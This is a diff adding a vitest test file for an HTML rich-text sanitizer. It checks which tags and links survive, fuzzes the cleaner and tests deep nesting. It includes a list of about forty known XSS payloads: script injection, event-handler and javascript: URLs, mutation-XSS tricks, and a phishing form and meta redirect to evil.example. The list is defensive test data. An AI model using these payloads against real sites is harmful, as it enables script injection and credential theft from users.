@@ -1,0 +1,139 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { RICH_TEXT_TAGS, richTextLink } from '../../../shared/rules/rich-text.ts';
+import { cleanRichText } from './clean-rich-text.ts';
+
+describe('ANN-06 what stays', () => {
+  test.each([
+    ['<p>Hola <strong>a</strong> <em>b</em> <u>c</u> <s>d</s></p>', null],
+    ['<h2>T</h2><h3>t</h3><ul><li>1</li></ul><ol><li>2</li></ol><blockquote>q</blockquote>', null],
+    [
+      '<b>a</b><i>b</i><del>c</del><div>d</div><h1>e</h1>',
+      '<strong>a</strong><em>b</em><s>c</s><p>d</p><h2>e</h2>',
+    ],
+    ['una línea\notra & <más>', 'una línea\notra &amp;'],
+    ['Gol de <Boca>', 'Gol de'],
+    ['1 < 2 y 3 > 2', '1 &lt; 2 y 3 &gt; 2'],
+    ['a<br>b', 'a<br />b'],
+    ['¡Golazo! ⚽️🏆 ção', null],
+  ])('ANN-06 %s', (given, expected) => {
+    expect(cleanRichText(given)).toBe(expected ?? given);
+  });
+
+  test('ANN-06 a link keeps where it leads; what it opens in and what it tells of us is ours to say', () => {
+    const away = '<a href="https://x.example/a?b=1&amp;c" rel="noopener noreferrer" target="_blank">x</a>';
+    expect(
+      cleanRichText(
+        '<a class="c" onclick="x()" target="_top" rel="opener" HREF=" https://x.example/a?b=1&c ">x</a>',
+      ),
+    ).toBe(away);
+    expect(cleanRichText('<a href="/jugar" target="_blank" style="x">Jugar</a>')).toBe(
+      '<a href="/jugar">Jugar</a>',
+    );
+  });
+});
+
+/** From the collections of OWASP and of what has got past such cleaners before. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\n>alert(1)</script\n>',
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="java&#x0A;script:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="/\\evil.example">x</a>',
+  '<a href="https://x.example" onmouseover="alert(1)">x</a>',
+  `<a href='https://x.example/"onmouseover="alert(1)'>x</a>`,
+  '<p style="background:url(javascript:alert(1))" onclick=alert(1) id=x class=y>x</p>',
+  '<p/onclick=alert(1)>x',
+  '<style>@import "https://evil.example"</style>',
+  '<link rel=stylesheet href="https://evil.example">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<title><a href="</title><img src=x onerror=alert(1)>">',
+  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '<form action="https://evil.example"><input name=password><button>Entrar</button></form>',
+  '<video><source onerror=alert(1)></video><details open ontoggle=alert(1)>x</details>',
+  '<custom-element onclick=alert(1)>x</custom-element>',
+  '\u0000<script>alert(1)</script>&#0;&#7;',
+];
+
+/** Elements that came through and are none of ours, attributes that are not those we set. */
+function strangeIn(html: string): string[] {
+  return [...html.matchAll(/<[^>]*>?/g)].flatMap(([tag]) => {
+    const [, name = '', attributes = ''] = /^<\/?([a-z0-9]*)([^>]*)>$/.exec(tag) ?? [];
+    if (!(RICH_TEXT_TAGS as readonly string[]).includes(name)) return [tag];
+    if (name !== 'a') return attributes === '' || attributes === ' /' ? [] : [tag];
+    if (attributes === '') return [];
+    const [, href] =
+      /^ href="([^"<>]*)"(?: rel="noopener noreferrer" target="_blank")?$/.exec(attributes) ?? [];
+    return href !== undefined && richTextLink(href.replaceAll('&amp;', '&')) ? [] : [tag];
+  });
+}
+
+describe('ANN-06 what goes', () => {
+  test.each(ATTACKS)('ANN-06 %s', (attack) => {
+    const clean = cleanRichText(`<p>antes</p>${attack}`);
+    expect(strangeIn(clean)).toEqual([]);
+    expect(clean).toContain('<p>antes</p>');
+    expect(clean).not.toMatch(/[\u0000-\u0008\u007f]/);
+    expect(cleanRichText(clean)).toBe(clean);
+  });
+
+  test('ANN-06 whatever markup is made of, nothing strange comes through, and cleaning twice changes nothing', () => {
+    const piece = fc.constantFrom(
+      ...['<', '>', '</', '/>', '"', "'", '`', '=', ' ', '\n', '&', ';', '<!--', '-->', '&lt;', '&#60;'],
+      ...[
+        'script',
+        'svg',
+        'math',
+        'style',
+        'a',
+        'p',
+        'b',
+        'ul',
+        'li',
+        'br',
+        'textarea',
+        'noscript',
+        'template',
+      ],
+      ...['href', 'onclick', 'src', 'style', 'https://x.example', 'javascript:', 'alert(1)', 'x'],
+      ...['<p>', '</p>', '<a href="', '">', '<script>', '</script>', '<svg>', '<style>', '</style>'],
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
+        const clean = cleanRichText(pieces.join(''));
+        expect(strangeIn(clean)).toEqual([]);
+        expect(cleanRichText(clean)).toBe(clean);
+      }),
+      { numRuns: 1500 },
+    );
+  });
+
+  test('ANN-06 a thousand elements in each other do no harm', () => {
+    const deep = cleanRichText(`${'<ul><li>'.repeat(1000)}x${'</li></ul>'.repeat(1000)}`);
+    expect(deep.length).toBeLessThan(200);
+    expect(cleanRichText('<'.repeat(20_000)).length).toBeLessThan(100_001);
+  });
+});
